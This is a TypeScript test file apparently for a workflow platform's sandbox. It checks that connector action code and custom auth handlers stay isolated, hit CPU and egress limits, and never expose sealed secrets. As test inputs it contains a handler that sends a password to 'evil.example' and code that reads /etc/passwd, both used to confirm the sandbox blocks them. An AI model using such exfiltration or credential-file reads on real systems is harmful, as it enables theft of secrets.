import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createHmac } from "node:crypto";
import { asOrganization } from "#runtime/db/tenant.ts";
import { serve } from "#test/egress/server.ts";
import { startProduct } from "#test/support/product.ts";
import type { Product } from "#test/support/product.ts";
import { findIn, findInDatabase, needles } from "#test/support/search.ts";
import { logsOf } from "#test/support/workflow.ts";
import { connect, json, makeConnector, runWith } from "./connections.ts";

let product: Product;
beforeAll(async () => {
  product = await startProduct({ env: { TENON_CPU_SLICE_MS: "2000" } });
});
afterAll(async () => product.close());

const KEY = "token-0123456789-abcdef";

describe("an action that is code", () => {
  async function coded(code: string, more: object = {}) {
    const server = await serve((request, response) =>
      json(response, { url: request.url, authorization: request.headers.authorization }),
    );
    const connector = await makeConnector(product, server.port, {
      actions: [
        {
          slug: "do-it",
          name: "Do it",
          input: { type: "object", properties: { n: { type: "number" } } },
          code,
        },
        { slug: "plain", name: "Plain", http: { method: "GET", path: "/plain" } },
      ],
      ...more,
    });
    await connect(product, { connector, secrets: { token: KEY } });
    return { server, needs: { api: { connector } } };
  }
  const CALL = `async (ctx) => ctx.connections.api.actions.doIt({ n: 2 })`;

  test("runs with its connection, its input and the run's log", async () => {
    const { server, needs } = await coded(`
      export async function run(ctx, input) {
        ctx.log.info("inside", { n: input.n });
        const one = await (await ctx.connection.fetch("/one")).json();
        const two = await ctx.connection.actions.plain();
        return { urls: [one.url, two.url], n: input.n * 2, sees: one.authorization };
      }`);
    const run = await runWith(product, needs, CALL);
    expect(run).toMatchObject({ status: "completed", result: { urls: ["/one", "/plain"], n: 4 } });
    expect(JSON.stringify(run.result)).toMatch(/Bearer tncred_/);
    expect(server.received.map(({ headers }) => headers.authorization)).toEqual([
      `Bearer ${KEY}`,
      `Bearer ${KEY}`,
    ]);
    expect((await logsOf(product, run.id)).map(({ message }) => message)).toContain("inside");
  });

  test("has nothing of the run that called it", async () => {
    await product.call("PUT", "/environments/development/secrets/OTHER", {
      value: "other-secret-value",
      hosts: ["x.example"],
    });
    const { needs } = await coded(`
      export const run = async (ctx) => ({
        keys: Object.keys(ctx).sort(),
        globals: ["process", "require", "WebAssembly", "__tenonLoad"].filter((name) => name in globalThis),
        marked: globalThis.mark ?? null,
        fetched: await fetch("https://example.com").then(() => "reached", (error) => error.code),
      });`);
    const run = await runWith(
      product,
      needs,
      `async (ctx) => { globalThis.mark = 1; Object.prototype.mark = 2; return ctx.connections.api.actions.doIt({}); }`,
      { needs: `secrets: { OTHER: {} }, egress: ["example.com"]` },
    );
    expect(run.result).toEqual({
      keys: ["connection", "input", "log", "signal"],
      globals: [],
      marked: null,
      fetched: "TENON_EGRESS_DENIED",
    });
  });

  test.each([
    [
      "throws",
      `export function run() { throw new Error("no luck"); }`,
      "TENON_ACTION_FAILED",
      /"do-it" of "api" failed: no luck/,
    ],
    ["does not end", `export function run() { for (;;) {} }`, "TENON_CPU_LIMIT", /"do-it"/],
    [
      "is no module",
      `export function run( {`,
      "TENON_CONNECTOR_CODE",
      /must export a function "run".*line \d/,
    ],
    ["exports something else", `export function go() {}`, "TENON_CONNECTOR_CODE", /run/],
    [
      "imports what it may not",
      `import fs from "node:fs"; export const run = () => fs.readFileSync("/etc/passwd");`,
      "TENON_CONNECTOR_CODE",
      /node:fs/,
    ],
  ])(
    "that %s fails the call, not the product",
    async (_, code, expected, message) => {
      const { needs } = await coded(code);
      const run = await runWith(product, needs, CALL);
      expect(run).toMatchObject({ status: "failed", error: { code: expected } });
      expect(run.error?.message).toMatch(message);
    },
    60_000,
  );

  test("does not call itself without end", async () => {
    const { needs } = await coded(
      `export async function run(ctx) { return ctx.connection.actions.doIt({}); }`,
    );
    const run = await runWith(product, needs, CALL);
    expect(run).toMatchObject({ status: "failed", error: { code: "TENON_ACTION_NESTED" } });
  });

  test("waits its turn when a run asks for many at once", async () => {
    const { needs } = await coded(
      `export async function run(ctx, { n }) { await ctx.connection.fetch("/" + n); return n; }`,
    );
    const run = await runWith(
      product,
      needs,
      `async (ctx) => (await Promise.all([1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => ctx.connections.api.actions.doIt({ n })))).reduce((a, b) => a + b, 0)`,
    );
    expect(run.result).toBe(45);
  });
});

const PASSWORD = "correct-horse-battery-7781";
const SESSION = "sess_91b0e6f1c2d34a57";
const HEADER_TOKEN = "hdr_5cc07d2e98ab4411";

/** A connection by a custom handler to a server that gives out sessions. */
async function handled(handler: string, options: { readonly sessionLifetime?: number } = {}) {
  let sessions = 0;
  let oldest = 1;
  const server = await serve((request, response) => {
    if (request.url === "/gone") {
      response.destroy();
      return;
    }
    if (request.url === "/session") {
      sessions += 1;
      const { user, password } = JSON.parse(request.body) as { user: string; password: string };
      const good = user === "ada" && password === PASSWORD;
      json(
        response,
        good
          ? { session: { token: `${SESSION}-${String(sessions)}`, number: 12345678 }, sent: request.body }
          : { error: "wrong" },
        good ? 200 : 401,
        good ? { "x-session": HEADER_TOKEN } : {},
      );
      return;
    }
    const expected = `${SESSION}-${String(sessions)}`;
    const ok =
      sessions >= oldest &&
      request.headers["x-token"] === expected &&
      request.headers["x-header"] === HEADER_TOKEN;
    json(
      response,
      { ok, url: request.url, echoed: request.headers["x-token"], signature: request.headers["x-signature"] },
      ok ? 200 : 401,
    );
  });
  const origin = `http://localhost:${String(server.port)}`;
  const connector = await makeConnector(product, server.port, {
    auth: [
      {
        id: "custom",
        type: "custom",
        label: "Session",
        handler: handler.replaceAll("ORIGIN", origin),
        fields: { user: { label: "User" }, password: { label: "Password", type: "password" } },
        carry: {
          headers: {
            "x-token": "{accessToken}",
            "x-header": "{token.header}",
            "x-signature": "{token.signature}",
          },
        },
        lifetime: options.sessionLifetime ?? 3600,
      },
    ],
  });
  const id = await connect(product, {
    connector,
    method: "custom",
    fields: { user: "ada" },
    secrets: { password: PASSWORD },
  });
  return {
    server,
    needs: { api: { connector } },
    sessions: () => sessions,
    endSession: () => (oldest = sessions + 1),
    id,
  };
}

const HANDLER = `
export async function authenticate(ctx) {
  const response = await ctx.fetch("ORIGIN/session", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ user: ctx.fields.user, password: ctx.fields.password }),
    seal: { accessToken: "session.token", header: { header: "X-Session" } },
  });
  if (response.status === 401) ctx.refuse("The password is wrong.");
  const text = await response.text();
  const { session, sent } = JSON.parse(text);
  if (!/^tncred_[0-9a-f]{32}$/.test(session.token) || session.number !== 12345678) throw new Error("seen: " + text);
  if (!/^tncred_/.test(JSON.parse(sent).password) || !/^tncred_/.test(response.headers.get("x-session"))) throw new Error("seen: " + text);
  return { values: { accessToken: session.token, header: response.headers.get("x-session"), signature: await ctx.hmac("password", "m") }, expiresIn: 600 };
}`;

describe("a custom auth handler", () => {
  test("trades the fields for tokens, blind, once; runs use them, and nobody sees them", async () => {
    const { server, needs, sessions } = await handled(HANDLER);
    const run = await runWith(
      product,
      needs,
      `async (ctx) => { const r = await ctx.connections.api.fetch("/me"); const text = await r.text(); ctx.log.info(text); return [r.status, text]; }`,
    );
    expect(run.status).toBe("completed");
    const [status, text] = run.result as [number, string];
    expect(status).toBe(200);
    expect(text).toMatch(/"echoed":"tncred_[0-9a-f]{32}"/);
    const again = await runWith(
      product,
      needs,
      `async (ctx) => (await ctx.connections.api.fetch("/me")).status`,
    );
    expect(again.result).toBe(200);
    expect(sessions()).toBe(1);
    expect(server.received.at(-1)?.headers["x-signature"]).toBe(
      createHmac("sha256", PASSWORD).update("m").digest("hex"),
    );
    const shown = JSON.stringify([run, await logsOf(product, run.id)]);
    for (const value of [PASSWORD, `${SESSION}-1`, HEADER_TOKEN]) {
      expect(findIn(Buffer.from(shown), needles(value))).toEqual([]);
      expect((await findInDatabase(product.db.url, needles(value))).found).toEqual([]);
    }
  });

  test("runs again when the session has ended, and the request is repeated", async () => {
    const { needs, sessions, server, endSession, id } = await handled(HANDLER);
    const handler = `async (ctx) => (await ctx.connections.api.fetch("/me", { method: "POST", body: "x" })).status`;
    expect((await runWith(product, needs, handler)).result).toBe(200);
    endSession();
    await asOrganization(product.db.database, product.organizationId, async (sql) => {
      // A token that is only seconds old is not renewed for one refusal.
      await sql`
        update credentials set refreshed_at = now() - interval '1 hour'
        where organization_id = ${product.organizationId} and connection_id = ${id}`;
    });
    expect((await runWith(product, needs, handler)).result).toBe(200);
    expect(sessions()).toBe(2);
    expect(server.received.map(({ url }) => url)).toEqual(["/session", "/me", "/me", "/session", "/me"]);
  });

  test.each([
    ["refuses", HANDLER.replace("ctx.fields.password }", "'x' }"), /The password is wrong/],
    ["throws", `export function authenticate() { throw new Error("broken " + 1); }`, /broken 1/],
    ["returns nonsense", `export const authenticate = () => 5;`, /values/],
    ["does not build", `export const authenticate = ;`, /authenticate/],
    [
      "leaves the connector's hosts",
      `export async function authenticate(ctx) { await ctx.fetch("https://evil.example/?p=" + ctx.fields.password); }`,
      /evil\.example/,
    ],
    [
      "meets a server that hangs up",
      `export async function authenticate(ctx) { await ctx.fetch("ORIGIN/gone"); }`,
      /fetch failed \([A-Z_]+\)/,
    ],
    [
      "looks for more",
      `export async function authenticate(ctx) { throw new Error(Object.keys(ctx).sort().join()); }`,
      /fetch,fields,hmac,log,previous,refuse,signal/,
    ],
  ])("that %s stops the run before any code, and says why", async (_, handler, reason) => {
    const { needs } = await handled(handler);
    const run = await runWith(product, needs, `() => { console.log("started"); }`);
    expect(run).toMatchObject({ status: "failed", error: { code: "TENON_CONNECTION_UNHEALTHY" } });
    expect(run.error?.message).toMatch(reason);
    expect(JSON.stringify(run)).not.toContain(PASSWORD);
    expect(await logsOf(product, run.id)).toEqual([]);
  });
});
